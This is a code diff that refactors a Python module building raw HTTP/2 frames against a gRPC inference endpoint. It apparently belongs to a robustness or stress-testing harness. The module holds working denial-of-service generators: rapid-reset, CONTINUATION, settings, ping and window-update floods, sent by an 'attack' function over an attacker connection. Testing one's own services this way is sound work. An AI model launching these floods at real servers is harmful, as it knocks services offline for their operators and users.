@@ -434,15 +434,24 @@ async def long_metadata(target: Target) -> None:
 
 
 _PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
-_HEADERS: Final = bytes.fromhex("83864114") + b"/baton.v1.Inference/Generate"[:20]
 
 
-def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
+def http2_frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
     return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
 
 
-def _call_head() -> bytes:
-    """HPACK, nothing indexed: a POST to Generate."""
+def http2_preface() -> bytes:
+    """What a client sends first."""
+    return _PREFACE + http2_frame(4, 0, 0)
+
+
+def call_frames(path: str, data: bytes, *, stream: int) -> bytes:
+    """One whole call: its head, and all that its client says."""
+    return http2_frame(1, 4, stream, _call_head(path.encode())) + http2_frame(0, 1, stream, data[:16_384])
+
+
+def _call_head(path: bytes = b"/baton.v1.Inference/Generate") -> bytes:
+    """HPACK, nothing indexed."""
 
     def literal(name: bytes, value: bytes) -> bytes:
         return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value
@@ -452,37 +461,37 @@ def _call_head() -> bytes:
         for name, value in (
             (b":method", b"POST"),
             (b":scheme", b"http"),
-            (b":path", b"/baton.v1.Inference/Generate"),
+            (b":path", path),
             (b":authority", b"a"),
             (b"content-type", b"application/grpc"),
             (b"te", b"trailers"),
+            (b"grpc-timeout", b"5S"),
         )
     )
 
 
 def _resets() -> bytes:
-    head = _call_head()
-    return b"".join(
-        _frame(1, 4, stream, head) + _frame(3, 0, stream, (8).to_bytes(4, "big")) for stream in range(1, 20_001, 2)
-    )
+    head, reset = _call_head(), (8).to_bytes(4, "big")
+    pairs = [http2_frame(1, 4, stream, head) + http2_frame(3, 0, stream, reset) for stream in range(1, 20_001, 2)]
+    return b"".join(pairs)
 
 
 FRAMES: Final[Mapping[str, Callable[[], bytes]]] = {
     "rapid resets": _resets,
-    "settings": lambda: _frame(4, 0, 0) * 50_000,
-    "pings": lambda: _frame(6, 0, 0, bytes(8)) * 50_000,
-    "continuations": lambda: _frame(1, 0, 1, _call_head()) + _frame(9, 0, 1, b"\x00\x01a\x01b" * 200) * 5_000,
-    "empty data": lambda: _frame(1, 4, 1, _call_head()) + _frame(0, 0, 1) * 100_000,
-    "windows": lambda: _frame(8, 0, 0, (1).to_bytes(4, "big")) * 100_000,
-    "priorities": lambda: b"".join(_frame(2, 0, stream, bytes(5)) for stream in range(1, 100_001, 2)),
-    "open calls": lambda: b"".join(_frame(1, 4, stream, _call_head()) for stream in range(1, 20_001, 2)),
+    "settings": lambda: http2_frame(4, 0, 0) * 50_000,
+    "pings": lambda: http2_frame(6, 0, 0, bytes(8)) * 50_000,
+    "continuations": lambda: http2_frame(1, 0, 1, _call_head()) + http2_frame(9, 0, 1, b"\x00\x01a\x01b" * 200) * 5_000,
+    "empty data": lambda: http2_frame(1, 4, 1, _call_head()) + http2_frame(0, 0, 1) * 100_000,
+    "windows": lambda: http2_frame(8, 0, 0, (1).to_bytes(4, "big")) * 100_000,
+    "priorities": lambda: b"".join(http2_frame(2, 0, stream, bytes(5)) for stream in range(1, 100_001, 2)),
+    "open calls": lambda: b"".join(http2_frame(1, 4, stream, _call_head()) for stream in range(1, 20_001, 2)),
 }  # fmt: skip
 """Frames of HTTP/2 that cost the receiver more than the sender."""
 
 
 def frame_attack(name: str) -> Attack:
     async def attack(target: Target) -> None:
-        raw = _PREFACE + _frame(4, 0, 0) + await asyncio.to_thread(FRAMES[name])
+        raw = http2_preface() + await asyncio.to_thread(FRAMES[name])
 
         async def send() -> None:
             reader, writer = await attacker_connection(target.grpc)
